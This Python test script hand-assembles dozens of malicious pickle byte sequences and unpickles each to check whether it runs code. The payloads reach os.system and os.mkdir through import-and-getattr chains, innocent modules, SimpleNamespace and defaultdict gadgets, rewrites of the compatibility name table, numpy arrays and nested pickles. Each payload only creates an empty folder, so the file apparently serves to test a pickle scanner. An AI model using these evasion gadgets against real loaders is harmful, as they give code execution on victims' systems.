"""Pickles that run something when they are unpickled, each tried out here.

    python3 dangers.py FOLDER

Prints a line for each: its name, its bytes in hex, and "ran" if unpickling it did what it is meant
to do: it makes an empty folder in FOLDER, or changes something of this program. Nothing else.
"""

import _compat_pickle
import io
import os
import pickle
import struct
import sys
import types

FOLDER = sys.argv[1]
PROTO = b"\x80\x04"
touched = ""  # the folder that the sample at hand makes


def touch(*args, **keywords):
    os.makedirs(touched, exist_ok=True)


def hook():
    pass


class Player:
    def __new__(cls, *args, **keywords):
        touch()
        return object.__new__(cls)


class Old:
    def method(self):
        pass


class Restored:
    def __setstate__(self, state):
        touch()


restored = Restored()
settings = {}
paths = []
MODULE = "__main__"
ARGUMENTS = ("x",)


def text(value):
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def name(module, path):
    return text(module) + text(path) + b"\x93"


def line(module, path):
    return b"c%s\n%s\n" % (module.encode(), path.encode())


def args(*values):
    return b"(" + b"".join(values) + b"t"


def call(function, *values):
    return function + args(*values) + b"R"


def build(target, state):
    return target + state + b"b"


def state(**attributes):
    return b"}" + b"".join(text(key) + value + b"s" for key, value in attributes.items())


def main(path):
    return name("__main__", path)


def builtin(path):
    return name("builtins", path)


def whole(body):
    return PROTO + body + b"."


def command():
    return text('mkdir "%s"' % touched)


def folder():
    return text(touched)


def samples():
    """Name, the way in which it is read, and what makes the bytes."""
    # called by each opcode
    yield "reduce", lambda: whole(call(name("os", "system"), command()))
    yield "protocol 0", lambda: line("os", "mkdir") + b"(V%s\ntR." % touched.encode()
    yield "inst", lambda: b"(V%s\nios\nmkdir\n." % touched.encode()
    yield "obj", lambda: b"(" + line("os", "mkdir") + folder() + b"o."
    yield "newobj", lambda: whole(main("Player") + b")\x81")
    yield "newobj_ex", lambda: whole(main("Player") + b")}\x92")
    yield "my own function", lambda: whole(call(main("touch")))
    yield "my own class, inst", lambda: b"(i__main__\nPlayer\n."
    yield "copyreg", lambda: whole(
        call(name("copyreg", "__newobj__"), main("Player"), text("x")))
    yield "copyreg with keywords", lambda: whole(
        call(name("copyreg", "__newobj_ex__"), main("Player"), b")", b"}"))
    yield "copyreg of protocol 0", lambda: whole(
        call(name("copyreg", "_reconstructor"), main("Player"), main("Player"), b"N"))
    yield "dropped again", lambda: whole(call(main("touch")) + b"0N")
    yield "kept in the memo", lambda: whole(
        text("__main__") + b"\x940" + text("touch") + b"\x940h\x00h\x01\x93)R")
    yield "names in Python 2's str", lambda: b"U\x02osU\x05mkdir\x93" + args(folder()) + b"R."
    # a state, items or pairs for what the receiver has
    yield "build a function", lambda: whole(build(main("hook"), state(x=b"N")))
    yield "build a class", lambda: whole(build(main("Old"), b"N" + state(x=b"N") + b"\x86"))
    yield "build an instance", lambda: whole(build(main("restored"), b"}"))
    yield "build with None", lambda: whole(build(main("restored"), b"N"))
    yield "build by getattr", lambda: build(
        line("__builtin__", "getattr") + args(line("__main__", "Old"), text("method")) + b"R",
        state(x=b"N")) + b"."
    yield "set an item", lambda: whole(main("settings") + text("a") + b"Ns")
    yield "set items", lambda: whole(main("settings") + b"(" + text("a") + b"Nu")
    yield "append", lambda: whole(main("paths") + text("a") + b"a")
    yield "append more", lambda: whole(main("paths") + b"(" + text("a") + b"e")
    # names that the pickle computes
    yield "str", lambda: whole(
        call(call(builtin("str"), text("os")) + text("mkdir") + b"\x93", folder()))
    yield "min", lambda: whole(
        call(call(builtin("min"), b"(" + text("posix" if os.name == "posix" else "nt") + b"l")
             + text("mkdir") + b"\x93", folder()))
    yield "decode", lambda: whole(
        call(call(name("_codecs", "decode"), b"C\x02os", text("ascii"))
             + text("mkdir") + b"\x93", folder()))
    yield "a name that a variable has", lambda: whole(
        call(main("MODULE") + text("touch") + b"\x93"))
    yield "a name that a state has hidden", lambda: whole(
        build(main("hook"), state(a=text("__main__"), b=text("touch"))) + b"0"
        + call(main("hook.a") + main("hook.b") + b"\x93"))
    yield "what a call returns", lambda: whole(
        call(call(name("functools", "partial"), main("touch"))))
    yield "arguments of a call", lambda: whole(
        name("os", "mkdir") + call(builtin("tuple"), b"(" + folder() + b"l") + b"R")
    yield "arguments of a variable", lambda: whole(main("touch") + main("ARGUMENTS") + b"R")
    yield "keywords of a call", lambda: whole(
        main("Player") + b")" + call(builtin("dict")) + b"\x92")
    # through innocent modules
    for module, path in [
        ("glob", "os.mkdir"), ("fnmatch", "os.mkdir"), ("random", "_os.mkdir"),
        ("collections", "_sys.modules.get"), ("os", "path.os.mkdir"),
    ]:
        yield "through %s" % module, lambda module=module, path=path: whole(
            call(name(module, path), folder()) + (
                call(main("touch")) if path == "_sys.modules.get" else b""))
    yield "getattr before protocol 4", lambda: b"".join([
        line("__builtin__", "getattr"), args(line("__main__", "Player"), text("__new__")), b"R",
        args(line("__main__", "Player")), b"R."])
    yield "getattr of a name", lambda: b"".join([
        line("__builtin__", "getattr"), args(line("glob", "os"), text("mkdir")), b"R",
        args(folder()), b"R."])
    yield "import and getattr", lambda: b"".join([
        line("builtins", "getattr"), b"(", line("builtins", "__import__"), args(text("os")), b"R",
        text("mkdir"), b"tR", args(folder()), b"R."])
    # harmless classes that call what they are given
    yield "a mapping's keys", lambda: whole(
        call(builtin("dict"), build(
            name("types", "SimpleNamespace") + b")\x81", state(keys=main("touch")))))
    yield "a text's replace", lambda: whole(
        call(name("uuid", "UUID"), build(
            name("types", "SimpleNamespace") + b")\x81", state(replace=main("touch")))))
    yield "a missing key", lambda: whole(
        call(builtin("dict"), call(
            name("collections", "ChainMap"),
            call(name("collections", "defaultdict"), main("touch")),
            b"}" + text("a") + b"Ns")))
    yield "a missing key, set later", lambda: whole(
        call(builtin("dict"), call(
            name("collections", "ChainMap"),
            build(call(name("collections", "defaultdict")),
                  b"N" + state(default_factory=main("touch")) + b"\x86"),
            b"}" + text("a") + b"Ns")))
    yield "attributes that change later", lambda: whole(
        build(name("collections", "UserDict") + b")\x81",
              b"N" + state(__dict__=b"}\x94") + b"\x86") + b"\x940h\x00" + text("keys")
        + main("touch") + b"s0" + call(builtin("dict"), b"h\x01"))
    yield "a state that is a mapping", lambda: whole(
        call(builtin("dict"), build(
            name("types", "SimpleNamespace") + b")\x81",
            call(name("collections", "OrderedDict"), b"}" + text("keys") + main("touch") + b"s"))))
    yield "a computed attribute", lambda: whole(
        call(builtin("dict"), build(
            name("types", "SimpleNamespace") + b")\x81",
            b"N}" + call(builtin("str"), text("keys")) + main("touch") + b"s\x86")))
    if sys.version_info >= (3, 13):
        yield "attributes by a dict", lambda: whole(
            call(builtin("dict"), call(
                name("types", "SimpleNamespace"), b"}" + text("keys") + main("touch") + b"s")))
    for kept, more in [("", b""), (", later", b"h\x00" + main("settings") + b"a0")]:
        maps = b"]\x94" if kept else b"]" + main("settings") + b"a"
        yield "a chain's first map" + kept, lambda maps=maps, more=more: whole(
            build(name("collections", "ChainMap") + b")R", state(maps=maps)) + b"\x940" + more
            + (b"h\x01" if more else b"h\x00") + text("a") + b"Ns")
    yield "the table of renamed names", lambda: whole(
        build(name("collections", "ChainMap") + b")R",
              state(maps=b"]" + name("_compat_pickle", "NAME_MAPPING") + b"a"))
        + text("datetime") + text("date") + b"\x86" + text("__main__") + text("touch")
        + b"\x86s0\x80\x02" + line("datetime", "date") + args(text("x")) + b"R")
    yield "__setstate__", lambda: whole(build(build(
        name("types", "SimpleNamespace") + b")\x81", state(__setstate__=main("touch"))), b"}"))
    yield "extend", lambda: whole(build(
        name("types", "SimpleNamespace") + b")\x81", state(extend=main("touch"))) + b"(Ne")
    yield "an alias of a function", lambda: whole(
        call(builtin("dict"), build(
            name("types", "SimpleNamespace") + b")\x81",
            state(keys=call(name("types", "GenericAlias"), main("touch"), b")")))))
    yield "an iterator's function", lambda: whole(
        call(builtin("list"), call(builtin("iter"), main("touch"), b"N")))
    yield "map", lambda: whole(
        call(builtin("list"), call(builtin("map"), main("touch"), b"(I1\nl")))
    yield "a class that is made", lambda: whole(
        call(builtin("type"), text("T"), b")", b"}") + call(main("touch")))
    # behind what only we refuse
    yield "behind items of a bytearray", lambda: (
        b"\x80\x05\x96" + struct.pack("<Q", 0) + b"(K\x01e0" + call(main("touch")) + b".")
    yield "behind an item of a bytearray", lambda: (
        b"\x80\x05\x96" + struct.pack("<Q", 1) + b"aK\x00K\x01s0" + main("touch") + b")R.")
    yield "behind an empty state", lambda: whole(b"]N}\x86b0" + call(main("touch")))
    yield "behind a computed index", lambda: whole(
        b"(I1\nl" + call(builtin("int"), text("0")) + b"Ns0" + call(main("touch")))
    yield "behind a computed index, by lines", lambda: (
        b"(I1\nl" + line("builtins", "int") + args(text("0")) + b"RNs0"
        + line("__main__", "touch") + b")R.")
    # more than a pickle
    yield "broken", lambda: PROTO + call(name("os", "mkdir"), folder()) + b"\xff"
    yield "cut off", lambda: PROTO + call(name("os", "mkdir"), folder())
    yield "the memo lacks it", lambda: PROTO + call(name("os", "mkdir"), folder()) + b"h\x03."
    yield "names of the wrong kind", lambda: PROTO + call(
        name("os", "mkdir"), folder()) + b"0K\x01" + text("os") + b"\x93."
    yield "second of a stream", lambda: pickle.dumps([1]) + whole(call(main("touch")))
    yield "third of a stream", lambda: b"N.I1\n." + line("__main__", "touch") + b")R."
    yield "a stream whose memo is kept", lambda: whole(
        text("__main__") + b"\x94" + text("touch") + b"\x94") + b"h\x00h\x01\x93)R."
    yield "a stream of lines", lambda: b"N.\n\r\n" + line("__main__", "touch") + b")R."
    for number, kind in enumerate([
        "'|O'", "'object'", "'object_'", r"'|\x4f'", r"'\117'", r"[('a', '\x4f')]",
    ]):
        yield "an array of objects %d" % number, lambda kind=kind: (
            npy(kind) + whole(b"]" + call(main("touch")) + b"a"))
    yield "behind its length", lambda: counted(line("__main__", "touch") + b")R.")
    yield "over a frame's end", lambda: (
        PROTO + b"N" + b"\x95" + struct.pack("<Q", 3) + line("xx__main__", "touch") + b")R.")
    # a value that is a pickle
    for outer in range(pickle.HIGHEST_PROTOCOL + 1):
        for inner in range(pickle.HIGHEST_PROTOCOL + 1):
            for form, make in VALUES.items():
                yield "value, %s, protocol %d in %d" % (form, inner, outer), (
                    lambda outer=outer, inner=inner, make=make: pickle.dumps(
                        make(pickle.dumps(Folder(), inner)), outer))
    for inner in range(2, pickle.HIGHEST_PROTOCOL + 1):
        yield "value, bytes before, protocol %d" % inner, lambda inner=inner: pickle.dumps(
            [b"abc" + pickle.dumps(Folder(), inner)], 4)
        yield "value, Python 2's str, protocol %d" % inner, lambda inner=inner: (
            b"\x80\x02T" + counted(pickle.dumps(Folder(), inner), "<L") + b".")
        yield "value, Python 2's str in a line, protocol %d" % inner, lambda inner=inner: (
            b"S" + repr(pickle.dumps(Folder(), inner))[1:].encode() + b"\n.")
    yield "value, cut off", lambda: pickle.dumps(pickle.dumps(Folder(), 2)[:-1], 4)
    yield "value, behind its length", lambda: pickle.dumps(
        counted(line("__main__", "touch") + b")R."), 4)
    yield "value, behind an item of a bytearray", lambda: (
        b"\x80\x05\x96" + struct.pack("<Q", 1) + b"aK\x00K\x01s0"
        + pickle.dumps(pickle.dumps(Folder()), 4)[2:])


class Folder:
    def __reduce__(self):
        return os.mkdir, (touched,)


VALUES = {
    "alone": lambda data: data,
    "in a call": lambda data: ((data,), {}),
    "keyword": lambda data: (("a",), {"data": data}),
    "in a list": lambda data: [1, [2, data]],
    "in an object": lambda data: types.SimpleNamespace(data=data),
    "bytearray": bytearray,
    "more behind": lambda data: (data + b" " * 100,),
    "twice": lambda data: pickle.dumps([data], 4),
}


def values(value):
    """The bytes in a value."""
    if isinstance(value, (bytes, bytearray)):
        return [bytes(value)]
    if isinstance(value, types.SimpleNamespace):
        return values(value.data)
    if isinstance(value, dict):
        value = value.values()
    return [found for part in value for found in values(part)] if not isinstance(
        value, (int, str)) else []


def unpickle_values(data):
    for value in values(pickle.loads(data, encoding="bytes")):
        at = value.find(b"abc\x80")
        if at >= 0 or value[:3] == bytes(3):
            value = value[3 if at >= 0 else 4:]
        found = pickle.loads(value)
        if found is not None:
            pickle.loads(found[0])


def counted(data, form=">L"):
    return struct.pack(form, len(data)) + data  # as logging.handlers.DatagramHandler does


def npy(kind):
    text = "{'descr': %s, 'fortran_order': False, 'shape': (1,), }" % kind
    header = text.encode().ljust(117) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header


def unpickle(sample, data):
    if sample.startswith("an array"):
        import numpy

        numpy.load(io.BytesIO(data), allow_pickle=True)
    elif sample.startswith("value"):
        unpickle_values(data)
    elif "stream" in sample:
        stream = io.BytesIO(data.replace(b"N.\n\r\n", b"N."))  # who reads lines strips them
        unpickler = pickle.Unpickler(stream)
        while stream.tell() < len(data):
            unpickler.load()
    elif sample == "behind its length":
        pickle.loads(data[4:])
    elif sample == "over a frame's end":
        pickle.load(io.BytesIO(data))
    else:
        pickle.loads(data)


def has_changed():
    changed = bool(
        hook.__dict__ or Old.method.__dict__ or settings or paths or hasattr(Old, "x"))
    hook.__dict__.clear()
    Old.method.__dict__.clear()
    settings.clear()
    paths.clear()
    if hasattr(Old, "x"):
        del Old.x
    _compat_pickle.NAME_MAPPING.pop(("datetime", "date"), None)
    return changed


def tried():
    global touched
    for number, (sample, make) in enumerate(samples()):
        touched = os.path.join(FOLDER, str(number))
        data = make()
        error = ""
        try:
            unpickle(sample, data)
        except Exception as e:
            error = repr(e)
        ran = os.path.isdir(touched) or has_changed()
        print(sample, data.hex(), "ran" if ran else "did not run: " + error, sep="\t")


if __name__ == "__main__":
    tried()
